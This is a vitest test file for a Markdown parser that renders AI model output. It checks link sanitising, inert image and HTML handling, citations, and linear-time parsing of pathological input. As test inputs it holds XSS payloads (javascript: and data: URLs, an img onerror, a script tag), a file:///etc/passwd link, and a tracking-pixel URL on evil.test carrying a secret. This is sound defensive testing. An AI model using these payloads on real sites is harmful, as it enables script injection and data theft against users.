import { describe, expect, it } from 'vitest';
import { parseMarkdown, safeHref, toSafeMarkdown, type MdBlock, type MdInline } from '@/lib/answer/markdown';
import { HOSTILE_SHAPES } from '../../scripts/bench-markdown';

/** Every inline node of a tree, depth first. */
function inlines(blocks: MdBlock[]): MdInline[] {
  const out: MdInline[] = [];
  const visitInline = (node: MdInline) => {
    out.push(node);
    if ('children' in node) node.children.forEach(visitInline);
  };
  const visit = (block: MdBlock) => {
    if (block.type === 'paragraph' || block.type === 'heading') block.children.forEach(visitInline);
    if (block.type === 'quote') block.children.forEach(visit);
    if (block.type === 'list') block.items.flat().forEach(visit);
  };
  blocks.forEach(visit);
  return out;
}

describe('Markdown parsing of model output', () => {
  it('parses headings, lists, emphasis, code and links', () => {
    const blocks = parseMarkdown('# Title\n\nSome **bold** and *em* and `code`.\n\n- one\n- two [site](https://e.test/a)\n\n1. first\n2. second\n\n```js\nlet x = 1;\n```');
    expect(blocks.map((block) => block.type)).toEqual(['heading', 'paragraph', 'list', 'list', 'code']);
    expect(inlines(blocks).map((node) => node.type)).toEqual(expect.arrayContaining(['strong', 'em', 'code', 'link']));
    expect(blocks[4]).toEqual({ type: 'code', lang: 'js', value: 'let x = 1;' });
    const link = inlines(blocks).find((node) => node.type === 'link');
    expect(link).toMatchObject({ href: 'https://e.test/a', target: 'https://e.test/a' });
  });

  it('accepts only http, https and mailto targets', () => {
    expect(safeHref('https://e.test/x?y=1')).toBe('https://e.test/x?y=1');
    expect(safeHref('mailto:a@e.test')).toBe('mailto:a@e.test');
    for (const hostile of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'java\tscript:alert(1)',
      ' \u0001javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:x',
      'file:///etc/passwd',
      '/relative',
      '//evil.test/x',
      'chrome://settings',
      'https://',
    ]) {
      expect(safeHref(hostile), hostile).toBeNull();
    }
  });

  it('keeps hostile links inert: the refused target is kept only as text', () => {
    const nodes = inlines(parseMarkdown('[click me](javascript:alert(document.cookie)) and [x](data:text/html;base64,PHNjcmlwdD4=) and <javascript:alert(1)>'));
    const links = nodes.filter((node) => node.type === 'link');
    expect(links).toHaveLength(2);
    expect(links.every((link) => link.type === 'link' && link.href === null)).toBe(true);
  });

  it('never turns an image into an image: it becomes a link the person may open', () => {
    const nodes = inlines(parseMarkdown('![tracking pixel](https://evil.test/p.gif?secret=1) ![x](javascript:alert(1))'));
    expect(nodes.filter((node) => node.type === 'image')).toEqual([
      { type: 'image', alt: 'tracking pixel', href: 'https://evil.test/p.gif?secret=1', target: 'https://evil.test/p.gif?secret=1' },
      { type: 'image', alt: 'x', href: null, target: 'javascript:alert(1)' },
    ]);
  });

  it('leaves raw HTML as literal text', () => {
    const html = '<img src=x onerror=alert(1)> <script>alert(1)</script> <a href="javascript:alert(1)">x</a>';
    const blocks = parseMarkdown(html);
    expect(blocks).toEqual([{ type: 'paragraph', children: [{ type: 'text', value: html }] }]);
  });

  it('turns [n] into citations only for existing sources and not for links', () => {
    const nodes = inlines(parseMarkdown('A [1]. B [2, 3]. C [7]. D [1](https://e.test).', { citations: 3 }));
    expect(nodes.filter((node) => node.type === 'citation').map((node) => node.type === 'citation' && node.ids)).toEqual([[1], [2, 3]]);
    expect(nodes.some((node) => node.type === 'text' && node.value.includes('[7]'))).toBe(true);
  });

  it('survives pathological nesting and unbalanced markup without throwing', () => {
    const deep = '> '.repeat(5000) + 'x';
    const brackets = '['.repeat(20000) + 'x' + ']'.repeat(20000);
    const stars = '*a '.repeat(5000);
    const lists = Array.from({ length: 200 }, (_, i) => `${' '.repeat(i * 2)}- item`).join('\n');
    for (const input of [deep, brackets, stars, lists, '```\nunclosed', '`'.repeat(1000)]) {
      expect(() => parseMarkdown(input)).not.toThrow();
    }
  });

  it('keeps snake_case words and lone asterisks as text', () => {
    expect(inlines(parseMarkdown('use snake_case_name and 2 * 3 * 4'))).toEqual([{ type: 'text', value: 'use snake_case_name and 2 * 3 * 4' }]);
  });

  it('reads headings, fences, rules and code spans the linear way (CommonMark rules)', () => {
    expect(parseMarkdown('## Title ##')).toEqual([{ type: 'heading', level: 2, children: [{ type: 'text', value: 'Title' }] }]);
    expect(parseMarkdown('# C#')).toEqual([{ type: 'heading', level: 1, children: [{ type: 'text', value: 'C#' }] }]);
    expect(parseMarkdown('#hashtag')[0]!.type).toBe('paragraph');
    expect(parseMarkdown('```py extra\nx = 1\n```')).toEqual([{ type: 'code', lang: 'py', value: 'x = 1' }]);
    expect(parseMarkdown('```a`b```')[0]!.type).toBe('paragraph');
    expect(parseMarkdown(' - - -')).toEqual([{ type: 'rule' }]);
    // A code span closes at a run of exactly its length.
    expect(inlines(parseMarkdown('``a ` b`` and `c`'))).toEqual([
      { type: 'code', value: 'a ` b' },
      { type: 'text', value: ' and ' },
      { type: 'code', value: 'c' },
    ]);
  });

  // A correctness bound, not a speed target: every shape parses in a few milliseconds
  // (npm run bench:markdown); the quadratic parser took minutes on the first one at
  // this size (8 s at 60,000 characters). 1.5 s is two orders of magnitude from both.
  for (const [name, make] of Object.entries(HOSTILE_SHAPES)) {
    it(`parses 200,000 characters of "${name}" in linear time`, () => {
      const text = make(200_000);
      const start = performance.now();
      const blocks = parseMarkdown(text, { citations: 3 });
      expect(performance.now() - start).toBeLessThan(1500);
      expect(blocks.length).toBeGreaterThan(0);
    });
  }

  it('writes an answer back as inert Markdown that parses to the same tree', () => {
    const answer = [
      '## Plan',
      'Some **bold**, *em*, `code` and a [link](https://e.test/a?q=1) to read.',
      '1. first\n2. second\n   - nested',
      '> quoted',
      '```js\nlet x = 1;\n```',
      '---',
      'A line  \n- after a break 3 < 4 & 5 > 2 [2]',
    ].join('\n\n');
    const safe = toSafeMarkdown(answer);
    expect(parseMarkdown(safe)).toEqual(parseMarkdown(answer));
    expect(safe).toContain('3 &lt; 4 &amp; 5 &gt; 2 \\[2\\]');
    expect(toSafeMarkdown('[x](javascript:alert(1)) ![i](https://e.test/p.gif) <b>')).toBe(
      'x (link removed: `javascript:alert(1)`) [\\[image: i\\]](<https://e.test/p.gif>) &lt;b&gt;',
    );
  });

  it('reads character references as text, never as markup', () => {
    expect(inlines(parseMarkdown('&lt;script&gt; &amp; &#60;b&#x3E; &bogus; &#0;'))).toEqual([{ type: 'text', value: '<script> & <b> &bogus; &#0;' }]);
  });
});
